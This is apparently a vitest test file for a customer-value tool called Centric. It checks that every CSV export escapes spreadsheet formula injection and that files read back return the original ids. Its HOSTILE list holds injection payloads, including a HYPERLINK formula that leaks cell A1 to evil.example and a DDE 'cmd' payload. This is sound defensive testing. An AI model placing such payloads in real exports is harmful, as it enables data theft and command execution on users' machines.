/**
 * Issue 16: every CSV file Centric writes is safe to open in a spreadsheet (OWASP "CSV injection").
 * Each export below is fed hostile customer names, ids, tier names and import file names, its output
 * is parsed back with an RFC 4180 reader (papaparse), and no cell may start with = + - @, TAB or CR
 * unless it is a number Centric wrote as a number. The files Centric reads back (score files,
 * `centric summarize` output) still give the original ids. The last test makes sure this list of
 * exports stays complete: any other source file that writes CSV fails it.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliIo } from '~/lib/cli/io';
import { FileError } from '~/lib/cli/io';
import { main } from '~/lib/cli/main';
import { csvField, csvText, fromSpreadsheetSafe, spreadsheetSafe } from '~/lib/csv/write';
import { scoresToCsv } from '~/lib/dashboard/export';
import { CentricDb } from '~/lib/db/db';
import type { CustomerWithValue } from '~/lib/db/records';
import { latestSnapshots } from '~/lib/db/snapshots';
import { buildReport, reportCsv } from '~/lib/equity/report';
import { previewFile } from '~/lib/import/mapping';
import { issuesToCsv, readImport } from '~/lib/import/read';
import { loadSampleData } from '~/lib/sample/install';
import { DEFAULT_SCORING_SETTINGS } from '~/lib/scoring/settings';
import { scoreStore } from '~/lib/scoring/store';
import { openDatabase } from '~/lib/server/database';
import { migrate } from '~/lib/server/migrations';
import { currentRun, scoreFileChunks, uploadScores } from '~/lib/server/scores';
import { parseScoreFile } from '~/lib/sources/score-file';
import { readBundledSample } from '../../helpers/sample';

/** Text a spreadsheet would run (or that starts like a formula), from the OWASP page and Centric's own payloads. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '-5',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''@twice",
];
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** Every row of a CSV file, parsed as RFC 4180 (blank lines between sections skipped). */
function parse(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** No cell starts with a trigger, except numbers (a spreadsheet reads -5 as the number -5). Returns the cells. */
function expectSafe(csv: string): string[][] {
  const rows = parse(csv);
  for (const row of rows) for (const cell of row) if (TRIGGER.test(cell)) expect(cell, JSON.stringify(row)).toMatch(NUMBER);
  return rows;
}

/** Runs the CLI in-process with in-memory files. */
async function cli(argv: string[], files: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string; written: Map<string, string> }> {
  let stdout = '';
  let stderr = '';
  const written = new Map<string, string>();
  const io: CliIo = {
    stdout: (t) => void (stdout += t),
    stderr: (t) => void (stderr += t),
    readFile(path) {
      const text = written.get(path) ?? files[path];
      if (text === undefined) throw new FileError(`File not found: ${path}`);
      return text;
    },
    writeFile: (path, text) => void written.set(path, text),
  };
  return { code: await main(argv, io), stdout, stderr, written };
}

/** A transaction log with hostile customer ids (three purchases each, so every customer is scored). */
function hostileLog(): { text: string; ids: string[] } {
  const ids = HOSTILE.map((h, i) => `${h}#${i}`);
  const lines = ['customer_id,date,amount'];
  ids.forEach((id, i) => {
    const cell = `"${id.replace(/"/g, '""')}"`;
    lines.push(`${cell},2024-01-0${1 + (i % 5)},${10 + i}`, `${cell},2024-03-1${i % 10},${20 + i}`, `${cell},2024-05-2${i % 8},${5 + i}`);
  });
  return { text: lines.join('\n') + '\n', ids };
}

describe('the CSV writer (lib/csv/write)', () => {
  it('neutralises every text cell starting with = + - @ TAB or CR, and nothing else', () => {
    for (const h of HOSTILE) expect(spreadsheetSafe(h)).toBe(`'${h}`);
    for (const ok of ['Gold', 'C-1', 'ana@x.example', "'quoted", '', ' =spaced', '1+1']) expect(spreadsheetSafe(ok)).toBe(ok);
  });

  it('undoes exactly what it added, for any text', () => {
    for (const text of [...HOSTILE, 'Gold', "'quoted", "'", "''", "'-'", '-', '=', "'\t"]) expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
  });

  it('writes numbers as numbers (negative ones too) and text as text, quoted per RFC 4180', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField(-0.123456789012)).toBe('-0.123456789');
    expect([csvField(null), csvField(undefined), csvField(Number.NaN), csvField(Number.POSITIVE_INFINITY)]).toEqual(['', '', '', '']);
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(parse(csvText(['id', 'clv'], [['=1', -3], ['x,y', 2.5]]))).toEqual([['id', 'clv'], ["'=1", '-3'], ['x,y', '2.5']]);
  });
});

describe('every CSV export, fed hostile text', () => {
  let db: CentricDb;
  beforeAll(async () => {
    db = new CentricDb('centric-csv-exports');
    await loadSampleData(db, readBundledSample());
  });
  afterAll(async () => {
    await db.delete();
  });

  it('the customer equity report (Report → CSV): names, ids, tier names, import file names', async () => {
    const run = await scoreStore(db, { ...DEFAULT_SCORING_SETTINGS, model: 'bgnbd' });
    const { current } = await latestSnapshots(db);
    const record = (await db.modelRuns.get(run.modelRunId))!;
    const tiers = structuredClone(record.settings.tiers) as { tiers: { name: string }[] };
    tiers.tiers.forEach((t, i) => (t.name = HOSTILE[i]!.slice(0, 40)));
    const ids = current!.ids.map((id, i) => `${HOSTILE[i % HOSTILE.length]}${id}`);
    const names = new Map(ids.map((id, i) => [id, `${HOSTILE[(i + 3) % HOSTILE.length]} Name`]));
    const imports = HOSTILE.map((h, i) => ({
      kind: 'transactions' as const,
      fileName: `${h}.csv`,
      startedAt: `2026-01-0${1 + (i % 9)}T00:00:00Z`,
      finishedAt: `2026-01-0${1 + (i % 9)}T00:01:00Z`,
      status: 'committed' as const,
      rows: 10,
      accepted: 10,
      rejected: 0,
      mode: 'all-or-nothing' as const,
      errors: [],
    }));
    const report = buildReport({
      run: { ...record, settings: { ...record.settings, tiers }, id: run.modelRunId },
      snapshot: { ...current!, ids },
      imports,
      names,
      period: 'month',
      now: new Date('2026-03-02T00:00:00Z'),
    });
    // The hostile text did reach the report, so the CSV is tested with it.
    expect(report.watchList.length).toBeGreaterThan(0);
    expect(report.watchList.some((w) => TRIGGER.test(w.id) && TRIGGER.test(w.name))).toBe(true);
    expect(report.tiers.map((t) => t.name)).toEqual(HOSTILE.slice(0, 4).map((h) => h.slice(0, 40)));
    const rows = expectSafe(reportCsv(report));
    const cells = rows.flat();
    for (const h of HOSTILE.slice(0, 4)) expect(cells).toContain(`'${h.slice(0, 40)}`);
    expect(cells.some((c) => c.startsWith(`'${HOSTILE[0]}.csv`))).toBe(true);
    // Numbers stay numbers: the tier rows' figures and the equity.
    const tierRow = rows.find((r) => r[0] === `'${HOSTILE[1]}`)!;
    expect(tierRow.slice(1, 5).every((c) => NUMBER.test(c))).toBe(true);
    expect(rows.find((r) => r[0] === 'customer equity')![1]).toMatch(NUMBER);
  });

  it('the scores (Options → Export scores): ids and tiers neutralised, negative values numbers, read back unchanged', () => {
    const customers: CustomerWithValue[] = HOSTILE.map((h, i) => ({
      id: `${h}#${i}`,
      name: h,
      value: { x: 2, tx: 10, T: 30, monetary: 12.5, pAlive: 0.4, expectedTransactions: 1.2, expectedSpend: 12, clv: -7.25, tier: h.slice(0, 40), tierIndex: 0 },
    })) as unknown as CustomerWithValue[];
    const csv = scoresToCsv(customers);
    const rows = expectSafe(csv);
    for (const row of rows.slice(1)) {
      expect(row[0]).toMatch(/^'/);
      expect(row[8]).toBe('-7.25');
    }
    const parsed = parseScoreFile(csv, { format: 'csv' });
    expect(parsed.ok ? [] : parsed.errors).toEqual([]);
    if (parsed.ok) {
      expect([...parsed.scores.values()].map((s) => s.customerId).sort()).toEqual(customers.map((c) => c.id.trim()).sort());
      const tierOf = (id: string) => [...parsed.scores.values()].find((s) => s.customerId === id)?.tier;
      expect(tierOf('+1+2#2')).toBe('+1+2');
      expect(tierOf("'=already quoted#8")).toBe("'=already quoted");
    }
  });

  it('the list of import problems (Import → download the problems): values, fields and the line number as a number', () => {
    const text = ['customer_id,date,amount', ...HOSTILE.map((h, i) => `"${h.replace(/"/g, '""')}#${i}",2024-01-02,"${h.replace(/"/g, '""')}"`)].join('\n');
    const batch = readImport(text, previewFile(text, 'transactions').mapping);
    // Every amount but "-5" (a number) is a problem.
    expect(batch.issues.map((i) => i.value)).toEqual(HOSTILE.filter((h) => h !== '-5').map((h) => h.trim()));
    const rows = expectSafe(issuesToCsv(batch.issues));
    expect(rows[0]).toEqual(['line', 'field', 'value', 'problem']);
    rows.slice(1).forEach((row, i) => {
      expect(row[0]).toBe(String(batch.issues[i]!.line));
      expect(row[2]).toBe(`'${batch.issues[i]!.value}`);
    });
  });

  it('centric score (CSV out): ids neutralised, and a shared score file reads them back unchanged', async () => {
    const { text, ids } = hostileLog();
    const run = await cli(['score', 'log.csv', '--horizon', '12m', '--end', '2024-06-30', '--out', 'scores.csv'], { 'log.csv': text });
    expect(run.code).toBe(0);
    const csv = run.written.get('scores.csv')!;
    const rows = expectSafe(csv);
    expect(rows).toHaveLength(ids.length + 1);
    for (const row of rows.slice(1)) {
      expect(row[0]).toMatch(/^'/);
      expect(row.slice(1, 9).every((c) => c === '' || NUMBER.test(c))).toBe(true);
    }
    // The ids as the CLI read them (JSON is not for spreadsheets: raw), and as a score file gives them back.
    const raw = JSON.parse((await cli(['score', 'log.csv', '--horizon', '12m', '--end', '2024-06-30', '--json'], { 'log.csv': text })).stdout) as { id: string }[];
    const parsed = parseScoreFile(csv, { format: 'csv' });
    expect(parsed.ok ? [] : parsed.errors).toEqual([]);
    if (parsed.ok) expect([...parsed.scores.values()].map((s) => s.customerId).sort()).toEqual(raw.map((r) => r.id.trim()).sort());
  });

  it('centric summarize (CSV out): ids neutralised, and centric score on that summary gives back the original ids', async () => {
    const { text, ids } = hostileLog();
    const summary = await cli(['summarize', 'log.csv', '--end', '2024-06-30', '--out', 'summary.csv'], { 'log.csv': text });
    expect(summary.code).toBe(0);
    const rows = expectSafe(summary.written.get('summary.csv')!);
    expect(rows).toHaveLength(ids.length + 1);
    for (const row of rows.slice(1)) expect(row[0]).toMatch(/^'/);
    const raw = JSON.parse((await cli(['summarize', 'log.csv', '--end', '2024-06-30', '--json'], { 'log.csv': text })).stdout) as { customers: { id: string }[] };
    const scored = await cli(['score', 'summary.csv', '--horizon', '52', '--json'], { 'summary.csv': summary.written.get('summary.csv')! });
    expect(scored.code).toBe(0);
    const json = JSON.parse(scored.stdout) as { id: string }[];
    expect(json.map((r) => r.id).sort()).toEqual(raw.customers.map((c) => c.id).sort());
  });

  it('the team service’s score file (GET /v1/scores/file): ids and tiers neutralised, and the extension reads them back unchanged', async () => {
    const db = await openDatabase({});
    try {
      await migrate(db);
      const ids = HOSTILE.map((h, i) => `${h}${i}`);
      const upload = JSON.stringify(ids.map((id) => ({ id, tier: HOSTILE[1], clv: -5 })));
      const caller = { tokenId: 'tok_x', name: 'x', role: 'manager' as const };
      expect((await uploadScores(db, caller, upload, 'hostile.json')).ok).toBe(true);
      const run = (await currentRun(db))!;
      let csv = '';
      for await (const chunk of scoreFileChunks(db, run, 'csv')) csv += chunk;
      const rows = expectSafe(csv);
      expect(rows).toHaveLength(ids.length + 1);
      const parsed = parseScoreFile(csv, { format: 'csv' });
      if (!parsed.ok) throw new Error(parsed.errors.join('\n'));
      expect([...parsed.scores.values()].map((e) => e.customerId).sort()).toEqual(ids.map((id) => id.trim()).sort());
      for (const entry of parsed.scores.values()) expect(entry).toMatchObject({ tier: HOSTILE[1], clv: -5 });
    } finally {
      await db.close();
    }
  });
});

/** Files that name text/csv only as what they accept (uploads to the team service), writing none. */
const READS_CSV_ONLY = ['lib/server/openapi.ts'];

describe('the list of exports above is complete', () => {
  it('only the files tested here write CSV', () => {
    const root = process.cwd();
    const found: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (/\.(ts|tsx|mjs)$/.test(name)) {
          const text = readFileSync(path, 'utf8');
          // Writing CSV: the shared writer, a CSV download, or cells joined with commas by hand.
          const writes = /\bcsv(Text|Line|Field)\(|\]\.join\(','\)|\.map\(\w+\)\.join\(','\)/.test(text);
          // Naming the CSV media type writes CSV too, except where a file only accepts CSV (the team service's uploads).
          const namesCsv = /text\/csv['";]/.test(text) && !READS_CSV_ONLY.includes(relative(root, path));
          if (writes || namesCsv) found.push(relative(root, path));
        }
      }
    };
    for (const dir of ['lib', 'components', 'entrypoints', 'bin']) walk(resolve(root, dir));
    expect(found.sort()).toEqual(
      [
        'components/options/ImportWizard.tsx', // downloads issuesToCsv
        'components/options/dashboard/CustomerTable.tsx', // downloads scoresToCsv
        'components/report/ReportPage.tsx', // downloads reportCsv
        'lib/cli/summarize.ts', // centric summarize
        'lib/csv/write.ts', // the writer
        'lib/dashboard/export.ts', // scoresToCsv, centric score
        'lib/equity/report.ts', // reportCsv
        'lib/import/read.ts', // issuesToCsv
        'lib/server/app.ts', // GET /v1/scores/file (text/csv), written by lib/server/scores.ts
        'lib/server/scores.ts', // scoreFileChunks: the team service's score file
      ].sort(),
    );
  });
});
